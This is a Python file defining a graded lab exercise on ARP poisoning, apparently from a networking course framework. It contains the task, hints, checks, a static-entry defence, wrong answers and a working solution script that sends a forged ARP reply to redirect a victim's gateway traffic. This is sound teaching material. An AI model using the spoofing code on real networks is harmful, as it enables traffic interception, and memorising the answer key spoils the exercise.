"""Exercise 6: ARP poisoning, and the victim's table (RFC 826; RFC 5227, section 1.3)."""

from __future__ import annotations

import socket
from collections.abc import Generator
from typing import Any

from rawkit.lab import Check, Defence, Evidence, Exercise, Finding, Link, Prediction, Seed, Stage, Topology, Values
from rawkit.lab import Wrong, python

__all__ = ["EXERCISE"]

TASK = """
You, a victim and a gateway share a switch. The victim knows the gateway already. Make the victim believe that the
gateway, `{gateway}`, is at **your** MAC address, `{your_mac}`, so that what the victim sends to the gateway comes to
you. The gateway's own table must stay as it is: tell your lie to the victim, `{victim}` at `{victim_mac}`, alone.

Your command may end once the lie is told: when it has ended, the victim sends a datagram to the gateway.
"""

SOLUTION = """
import os
from rawkit import ARP, Ethernet
from rawkit.link import PacketSocket

me, victim = os.environ["LAB_YOUR_MAC"], os.environ["LAB_VICTIM_MAC"]
lie = ARP.is_at(os.environ["LAB_GATEWAY"], me, to=os.environ["LAB_VICTIM"], to_mac=victim)
with PacketSocket("eth0") as link:
    link.send(Ethernet(dst=victim, src=me) / lie)
"""


def values(seed: Seed) -> dict[str, Any]:
    """Three stations, and what the victim sends in the end."""
    network = seed.network()
    addresses = {name: seed.address(network) for name in ("you", "victim", "gateway")}
    macs = {f"{name}_mac": seed.mac() for name in ("your", "victim", "gateway")}
    return {**addresses, **macs, "nonce": seed.nonce(), "port": seed.port()}


def topology(v: Values) -> Topology:
    """Three hosts on a switch."""
    macs = {"you": v.your_mac, "victim": v.victim_mac, "gateway": v.gateway_mac}
    return Topology([Link(name, "switch", (f"{v[name]}/24", ()), (mac, None)) for name, mac in macs.items()], switches=["switch"])


def scene(stage: Stage) -> Generator[None, None, None]:
    """The victim talks to the gateway before, and after, the student's command."""
    v = stage.values
    stage.host("victim").set_sysctls({"ipv4/neigh/eth0/locktime": 0})  # else nothing new is believed for a second
    stage.host("gateway").set_sysctls({"ipv4/neigh/eth0/locktime": 0})
    stage.run("victim", ["ping", "-c", "1", "-W", "2", v.gateway])
    if stage.defended:
        stage.host("victim").set_neighbor(v.gateway, v.gateway_mac)
    yield
    with stage.host("victim").open(socket.socket, socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(v.nonce.encode(), (v.gateway, v.port))


def told_the_victim_alone(e: Evidence) -> Finding:
    """Whether the gateway never heard from the student that the victim had moved."""
    return e.neighbour("gateway", e.values.victim).is_(e.values.victim_mac)


EXERCISE = Exercise(
    name="arp-poison",
    number=6,
    level=2,
    title="ARP poisoning, and the victim's table",
    learnt="Why a host believes any answer about who is where, and what that lets a neighbour do.",
    values=values,
    topology=topology,
    scene=scene,
    task=TASK,
    prediction=Prediction(
        "The victim never asked. Does Linux believe an ARP reply that it did not ask for, about an address that it "
        "knows? (yes or no)",
        lambda _: "yes",
        "An entry that exists is updated by whatever reply comes (RFC 826, packet reception); only new entries are "
        "not made unasked (arp_accept in the kernel's ip-sysctl).",
    ),
    hints=(
        "ARP has no proof of who speaks. What a host is told last about an address that it knows is what it believes.",
        "In a reply (operation 2), the pair of sender_ip and sender_mac is what the receiver stores.",
        "The sender's MAC is in bytes 22 to 27 of the frame, the sender's IP in 28 to 31; the frame itself goes to the victim.",
    ),
    checks=[
        Check(
            "lie",
            "you tell {victim} that {gateway} is at {your_mac}",
            lambda e: e.wire.sent_by("you").arp(sender_ip=e.values.gateway, sender_mac=e.values.your_mac).saw(),
            "RFC 826, packet reception",
        ),
        Check(
            "believed",
            "the victim's table says so",
            lambda e: e.neighbour("victim", e.values.gateway).is_(e.values.your_mac),
            "RFC 826, packet reception",
        ),
        Check(
            "caught",
            "what the victim sends to {gateway} comes to you",
            lambda e: e.wire.received_by("you").ether(dst=e.values.your_mac).ip(dst=e.values.gateway).payload(e.values.nonce).saw(),
        ),
        Check("quiet", "the gateway still knows where the victim is", told_the_victim_alone),
    ],
    defence=Defence("a permanent entry for the gateway in the victim's table", "believed"),
    solution=python(SOLUTION),
    wrong=[
        Wrong(
            python(SOLUTION.replace('os.environ["LAB_GATEWAY"], me,', 'os.environ["LAB_YOU"], me,')),
            "lie",
            "sender_ip is",
        ),
        Wrong(
            python(SOLUTION.replace('["LAB_GATEWAY"], me,', '["LAB_GATEWAY"], os.environ["LAB_GATEWAY_MAC"],')),
            "lie",
            "sender_mac is",
        ),
        Wrong(
            python(SOLUTION.replace("    link.send(", """    link.send(Ethernet(dst=os.environ["LAB_GATEWAY_MAC"], src=me)
        / ARP.is_at(os.environ["LAB_VICTIM"], me, to=os.environ["LAB_GATEWAY"], to_mac=os.environ["LAB_GATEWAY_MAC"]))
    link.send(""")),
            "quiet",
            "gateway believes that",
        ),
    ],
)
